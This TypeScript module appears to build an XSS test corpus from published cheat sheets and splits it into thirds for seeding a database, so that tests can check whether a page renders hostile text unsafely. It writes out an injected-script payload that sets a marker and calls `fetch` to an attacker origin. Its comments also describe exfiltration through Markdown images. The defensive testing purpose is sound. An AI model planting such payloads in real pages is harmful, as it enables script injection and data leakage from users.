/**
 * Texts that attack a page which shows them. Each sets `globalThis.__pwned` or asks `attacker` for its own number where it is
 * taken for anything but text; a page that shows them right does neither, and violates no policy in not doing it.
 *
 * Collected from OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, html5sec.org, published mutations of
 * sanitized HTML, and reports of exfiltration through Markdown images.
 *
 * @example
 * const texts = thirdOfHostileTexts('http://127.0.0.1:4000', 0);
 * await organization.insert(texts.map(({ text }) => ({ model: text })));
 */
import { HTML } from './html.ts';
import { LINKS_AND_MARKDOWN } from './markdown.ts';
import { VALUES } from './values.ts';

/** `number` is the path that it asks the attacker for; texts of a family attack in the same way. */
export type HostileText = { number: number; family: string; text: string };

/**
 * Returns the corpus.
 * @param attacker origin of a server that notes what is asked of it
 */
export function hostileTexts(attacker: string): HostileText[] {
  // Backticks are quotes in scripts, and are none in HTML; in Markdown they would be code.
  const loud = (number: number) => `globalThis.__pwned=${number};fetch(\`${attacker}/${number}\`)`;
  const quiet = (number: number) => `globalThis.__pwned=${number}`;
  const templates = [
    ...Object.entries({ ...HTML, ...VALUES }).map(([family, those]) => ({ family, those, run: loud })),
    ...Object.entries(LINKS_AND_MARKDOWN).map(([family, those]) => ({ family, those, run: quiet })),
  ].flatMap(({ family, those, run }) => those.map((template) => ({ family, template, run })));
  return templates.map(({ family, template, run }, number) => ({
    number,
    family,
    text: template.replaceAll('CALL', `${attacker}/${number}`).replaceAll('RUN', () => run(number)),
  }));
}

/** The corpus is shown in thirds, because each of its texts costs a page some time in each of many places. */
export type Third = 0 | 1 | 2;
const THIRDS = 3;

/**
 * Returns a third of each family of the corpus; with HOSTILE=full in the environment, the whole corpus. The three thirds together
 * are the whole corpus.
 */
export function thirdOfHostileTexts(attacker: string, third: Third): HostileText[] {
  const all = hostileTexts(attacker);
  if (process.env.HOSTILE === 'full') return all;
  // Links, images and anchors are of the same addresses in the same order: each form begins at another of them.
  return [...Map.groupBy(all, ({ family }) => family).values()].flatMap((texts, begin) =>
    texts.filter((_, index) => (begin + index) % THIRDS === third),
  );
}

/** Returns a text as the database takes it, cut to so many UTF-16 code units. */
export function storableText(text: string, longest: number): string {
  return text.replaceAll('\0', '').slice(0, longest).toWellFormed();
}
